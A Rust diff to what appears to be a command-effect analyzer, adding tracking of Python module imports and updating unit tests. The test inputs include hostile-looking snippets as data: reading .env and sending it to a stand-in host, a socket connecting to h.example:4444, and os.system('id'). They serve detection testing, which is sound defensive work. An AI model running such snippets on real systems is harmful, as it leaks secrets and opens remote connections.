@@ -242,6 +242,18 @@ pub(crate) fn inline_code(cx: &mut WalkCx<'_>, program: &str, code: &str) {
                 unknown_dir: false,
             })),
             Finding::Network { .. } => {}
+            Finding::Imports(modules) => {
+                for m in modules {
+                    let module = path(cx, m);
+                    cx.runs_file(
+                        module,
+                        RunAs::Import {
+                            interpreter: program.to_owned(),
+                        },
+                        Vec::new(),
+                    );
+                }
+            }
         }
     }
     for f in findings {
@@ -418,7 +430,7 @@ mod tests {
         let text = Harness::new()
             .stdin(Stdin::Text("import os\nos.system('id')".into()))
             .model(&ByRoles, &["python3"]);
-        assert_eq!(text, ["exec id"]);
+        assert_eq!(text, ["exec id", "runs os as python3 import []"]);
         let piped = Harness::new()
             .stdin(Stdin::Pipe(vec![]))
             .model(&ByRoles, &["node"]);
@@ -442,7 +454,14 @@ mod tests {
                 "import urllib.request\nurllib.request.urlopen('https://x.example', data=open('.env').read())",
             )
         });
-        assert_eq!(effects, ["read .env", "send https://x.example [.env]"]);
+        assert_eq!(
+            effects,
+            [
+                "read .env",
+                "runs urllib as python3 import []",
+                "send https://x.example [.env]"
+            ]
+        );
         let (_, effects) = h.with_cx(|cx| {
             inline_code(
                 cx,
@@ -450,7 +469,10 @@ mod tests {
                 "import socket; s=socket.socket(); s.connect(('h.example', 4444))",
             )
         });
-        assert_eq!(effects, ["connect h.example:4444"]);
+        assert_eq!(
+            effects,
+            ["runs socket as python3 import []", "connect h.example:4444"]
+        );
         let (_, effects) =
             h.with_cx(|cx| inline_code(cx, "node", "require('fs').unlinkSync('/tmp/x')"));
         assert_eq!(effects, ["delete /tmp/x"]);
